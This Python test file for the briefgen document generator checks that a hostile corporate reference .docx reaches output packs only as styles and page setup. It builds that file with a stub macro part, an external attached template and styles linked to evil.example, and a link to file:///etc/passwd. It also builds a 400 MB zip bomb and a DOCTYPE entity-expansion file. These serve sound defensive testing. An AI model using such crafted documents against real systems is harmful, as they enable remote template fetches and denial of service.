"""A hostile corporate reference .docx: nothing of it but styles, numbering, theme, fonts,
layout settings and page setup reaches a pack, and one that cannot be read safely (too large
when expanded, a DOCTYPE) is refused at ``validate`` naming the setting."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner, Result

from briefgen.cli import main
from briefgen.theme import resource_path

EVIL = "https://evil.example/template.dotm"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def run(*args: str) -> Result:
    result = CliRunner().invoke(main, list(args))
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


def use_reference(ws: Path, name: str = "corp.docx") -> None:
    settings = ws / "briefgen.toml"
    settings.write_text(settings.read_text() + f'\n[theme]\nreference_docx = "{name}"\n')


def rel(ident: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{ident}" Type="{RT}{kind}" Target="{target}"{mode}/>'


def hostile_reference(path: Path) -> None:
    """The shipped reference as a macro-enabled document (renamed .docx) with an external
    attached template, a macro part, comments, custom XML, an external link and a header
    that links out; its body holds a secret paragraph."""
    with zipfile.ZipFile(resource_path("reference.docx")) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(
            b"wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Override PartName="/word/comments.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>',
        )
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros" + bytes(64)
    parts["word/comments.xml"] = (
        f'<w:comments {W_NS}><w:comment w:id="0" w:author="A"><w:p><w:r>'
        "<w:t>SECRET COMMENT</w:t></w:r></w:p></w:comment></w:comments>"
    ).encode()
    parts["customXml/item1.xml"] = b"<secret>customer data</secret>"
    parts["word/header9.xml"] = (
        f"<w:hdr {W_NS} {R_NS}><w:p><w:r><w:t>CORPORATE HEADER</w:t></w:r></w:p></w:hdr>"
    ).encode()
    document_rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        (
            rel("rId90", "vbaProject", "vbaProject.bin")
            + rel("rId91", "comments", "comments.xml")
            + rel("rId92", "customXml", "../customXml/item1.xml")
            + rel("rId93", "hyperlink", "file:///etc/passwd", external=True)
            + rel("rId94", "header", "header9.xml")
            + rel("rId95", "styles", "https://evil.example/styles.xml", external=True)
            + "</Relationships>"
        ).encode(),
    )
    parts["word/_rels/document.xml.rels"] = document_rels
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b'<w:defaultTabStop w:val="720"/>',
        b'<w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/>'
        b'<w:docVars><w:docVar w:name="secret" w:val="PROTECTED"/></w:docVars>',
    )
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rel("rId1", "attachedTemplate", EVIL, external=True)
        + "</Relationships>"
    ).encode()
    document = parts["word/document.xml"].decode()
    document = document.replace(
        "<w:body>", "<w:body><w:p><w:r><w:t>SECRET BODY</w:t></w:r></w:p>"
    ).replace("<w:pgSz", '<w:headerReference w:type="default" r:id="rId94"/><w:pgSz')
    parts["word/document.xml"] = document.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, body in parts.items():
            dst.writestr(name, body)


def test_a_hostile_reference_gives_only_its_styles_to_every_pack(mini_copy: Path) -> None:
    hostile_reference(mini_copy / "corp.docx")
    use_reference(mini_copy)
    result = run("build", "-w", str(mini_copy), "--out", str(mini_copy / "out"), "--jobs", "1")
    assert result.exit_code == 0, result.output
    packs = sorted((mini_copy / "out").glob("*.docx"))
    assert packs
    for pack in packs:
        with zipfile.ZipFile(pack) as z:
            names = z.namelist()
            xml = {n: z.read(n).decode() for n in names if n.endswith((".xml", ".rels"))}
        assert not [n for n in names if re.search(r"vba|comments|customXml|\.bin$", n)], names
        assert "macroEnabled" not in xml["[Content_Types].xml"]
        assert "attachedTemplate" not in xml["word/settings.xml"]
        assert "docVar" not in xml["word/settings.xml"]
        everything = "".join(xml.values())
        for secret in ("SECRET", "CORPORATE HEADER", "evil.example", "file:///", "customer"):
            assert secret not in everything, (pack.name, secret)
        for name, body in xml.items():  # the only external relationships: the pack's links
            for found in re.findall(r"<Relationship [^>]*>", body):
                if "External" in found:
                    assert f'Type="{RT}hyperlink"' in found, (name, found)
                    assert re.search(r'Target="(https?|mailto):', found), (name, found)
        document = docx.Document(str(pack))  # and the corporate page setup is kept
        assert document.sections[0].page_width == 11906 * 635


def zip_with(path: Path, name: str, write: object) -> None:
    """The shipped reference with part ``name`` replaced by what ``write(fh)`` writes."""
    with (
        zipfile.ZipFile(resource_path("reference.docx")) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info.filename, src.read(info))
        with dst.open(name, "w", force_zip64=True) as fh:
            write(fh)  # type: ignore[operator]


def styles_bomb(path: Path) -> None:
    """styles.xml expanding to 400 MB of spaces (about 400 KB compressed)."""

    def write(fh: object) -> None:
        fh.write(f"<w:styles {W_NS}>".encode())  # type: ignore[attr-defined]
        chunk = b" " * (1 << 20)
        for _ in range(400):
            fh.write(chunk)  # type: ignore[attr-defined]
        fh.write(b"</w:styles>")  # type: ignore[attr-defined]

    zip_with(path, "word/styles.xml", write)


def styles_with_entities(path: Path) -> None:
    with zipfile.ZipFile(resource_path("reference.docx")) as src:
        styles = src.read("word/styles.xml").decode()
    head, rest = styles.split("?>", 1)
    doctype = '<!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    body = (head + "?>" + doctype + rest).encode()
    zip_with(path, "word/styles.xml", lambda fh: fh.write(body))


@pytest.mark.parametrize(
    ("make", "words"),
    [(styles_bomb, "would expand to 400 MB"), (styles_with_entities, "DOCTYPE")],
)
def test_validate_refuses_a_reference_that_is_unsafe_to_read(
    make: object, words: str, mini_copy: Path
) -> None:
    make(mini_copy / "corp.docx")  # type: ignore[operator]
    use_reference(mini_copy)
    for command in ("validate", "build"):
        result = run(command, "-w", str(mini_copy))
        assert result.exit_code == 2, result.output
        lines = [line for line in result.output.splitlines() if "reference_docx" in line]
        assert len(lines) == 1, result.output
        assert lines[0].strip().startswith("briefgen.toml: theme.reference_docx: 'corp.docx' ")
        assert words in lines[0]
    assert not (mini_copy / "build").exists()


def test_the_writer_refuses_an_unsafe_reference_itself(tmp_path: Path) -> None:
    from briefgen.errors import RenderError
    from briefgen.theme import Theme
    from briefgen.writers.docx import render
    from treesamples import sample_document

    styles_with_entities(tmp_path / "corp.docx")
    with pytest.raises(RenderError, match="DOCTYPE"):
        render(sample_document(), Theme(reference_docx=tmp_path / "corp.docx"))
